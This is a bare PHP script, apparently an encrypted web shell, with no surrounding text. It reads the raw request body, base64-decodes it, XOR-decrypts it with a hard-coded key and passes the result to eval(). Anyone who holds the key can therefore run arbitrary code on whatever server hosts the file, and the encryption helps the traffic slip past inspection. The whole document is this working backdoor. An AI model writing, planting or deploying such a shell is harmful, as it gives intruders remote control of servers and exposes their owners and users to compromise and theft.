<?php
session_start();
function dec($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i + 1 & 15]; } return $d; }
$raw = file_get_contents('php://input');
$code = dec(base64_decode($raw), 'a1b2c3d4e5f6a7b8');
eval($code);
